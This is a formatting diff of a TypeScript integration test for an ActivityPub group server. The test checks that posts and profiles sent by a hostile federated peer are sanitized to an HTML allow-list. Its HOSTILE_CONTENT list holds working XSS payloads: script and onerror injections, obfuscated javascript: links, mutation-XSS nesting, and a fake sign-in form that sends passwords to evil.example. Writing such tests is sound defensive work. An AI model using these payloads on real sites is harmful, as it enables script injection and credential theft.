@@ -12,7 +12,30 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { eventually, startInstance, type TestInstance, type TestUser } from "../helpers/instances.ts";
 import { AS_CONTEXT, startHostilePeer, type HostilePeer } from "./hostile-peer.ts";
 
-const ALLOWED_TAGS = new Set(["p", "br", "a", "span", "strong", "b", "em", "i", "u", "s", "del", "blockquote", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "hr"]);
+const ALLOWED_TAGS = new Set([
+  "p",
+  "br",
+  "a",
+  "span",
+  "strong",
+  "b",
+  "em",
+  "i",
+  "u",
+  "s",
+  "del",
+  "blockquote",
+  "code",
+  "pre",
+  "ul",
+  "ol",
+  "li",
+  "h1",
+  "h2",
+  "h3",
+  "h4",
+  "hr",
+]);
 const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ["href", "rel", "class", "title"], span: ["class"], ol: ["start", "reversed"], li: ["value"] };
 
 /** Every tag allowed, every attribute allowed, every href http(s)/mailto, nothing executable left. */
@@ -24,7 +47,10 @@ function expectSafeHtml(html: string, where: string) {
       const name = attr[1]!.toLowerCase();
       expect([where, tag, name, (ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)]).toEqual([where, tag, name, true]);
       if (name === "href") {
-        const value = (attr[2] ?? "").replace(/^["']|["']$/g, "").replace(/&#x?[0-9a-f]+;?|&\w+;/gi, "").trim();
+        const value = (attr[2] ?? "")
+          .replace(/^["']|["']$/g, "")
+          .replace(/&#x?[0-9a-f]+;?|&\w+;/gi, "")
+          .trim();
         expect([where, value]).toEqual([where, expect.stringMatching(/^(https?:\/\/|mailto:)/i)]);
       }
     }
@@ -39,7 +65,7 @@ function expectNoMarkup(text: string, where: string) {
 }
 
 const HOSTILE_CONTENT = [
-  '<p>Visible start.</p>',
+  "<p>Visible start.</p>",
   '<script>alert("script")</script>',
   '<p><img src=x onerror="alert(1)">image</p>',
   '<p><a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt:alert(2)">mixed case</a> <a href="jav&#x61;script:alert(3)">entity</a>',
@@ -49,13 +75,13 @@ const HOSTILE_CONTENT = [
   '<iframe src="https://evil.example/frame"></iframe>',
   '<style>body { display: none }</style><p style="color:red">styled</p>',
   '<svg><script>alert(10)</script><circle onload="alert(11)"/></svg><svg onload="alert(12)"></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>",
   '<noscript><p title="</noscript><img src=x onerror=alert(14)>">noscript</p></noscript>',
   '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
   '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
-  '<template><img src=x onerror=alert(15)></template><!-- <img src=x onerror=alert(16)> -->',
-  '<p>Visible end.</p>',
+  "<template><img src=x onerror=alert(15)></template><!-- <img src=x onerror=alert(16)> -->",
+  "<p>Visible end.</p>",
 ].join("");
 
 let a: TestInstance;
@@ -65,15 +91,19 @@ let gardenUri: string;
 let mallory: { uri: string; keyId: string };
 
 async function deliverNote(id: string, object: Record<string, unknown>) {
-  const res = await peer.post(`${a.origin}/users/garden/inbox`, {
-    "@context": AS_CONTEXT,
-    id: `${id}/activity`,
-    type: "Create",
-    actor: mallory.uri,
-    to: ["https://www.w3.org/ns/activitystreams#Public"],
-    cc: [gardenUri],
-    object: { id, attributedTo: mallory.uri, to: ["https://www.w3.org/ns/activitystreams#Public"], cc: [gardenUri], ...object },
-  }, mallory.keyId);
+  const res = await peer.post(
+    `${a.origin}/users/garden/inbox`,
+    {
+      "@context": AS_CONTEXT,
+      id: `${id}/activity`,
+      type: "Create",
+      actor: mallory.uri,
+      to: ["https://www.w3.org/ns/activitystreams#Public"],
+      cc: [gardenUri],
+      object: { id, attributedTo: mallory.uri, to: ["https://www.w3.org/ns/activitystreams#Public"], cc: [gardenUri], ...object },
+    },
+    mallory.keyId,
+  );
   expect(res.status).toBe(202);
   const row = await eventually(() => a.app.ctx.db.selectFrom("posts").selectAll().where("uri", "=", id).executeTakeFirst());
   return row!;
@@ -90,7 +120,11 @@ beforeAll(async () => {
     summary: HOSTILE_CONTENT,
     url: "javascript:alert('profile')",
   });
-  await peer.post(`${a.origin}/users/garden/inbox`, { "@context": AS_CONTEXT, id: `${peer.origin}/f/1`, type: "Follow", actor: mallory.uri, object: gardenUri }, mallory.keyId);
+  await peer.post(
+    `${a.origin}/users/garden/inbox`,
+    { "@context": AS_CONTEXT, id: `${peer.origin}/f/1`, type: "Follow", actor: mallory.uri, object: gardenUri },
+    mallory.keyId,
+  );
   await eventually(async () => {
     const members = await a.api(olga.token, "GET", "/api/ecotone/v1/groups/garden/members");
     return members.body.items.some((m: { actor: { uri: string } }) => m.actor.uri === mallory.uri);
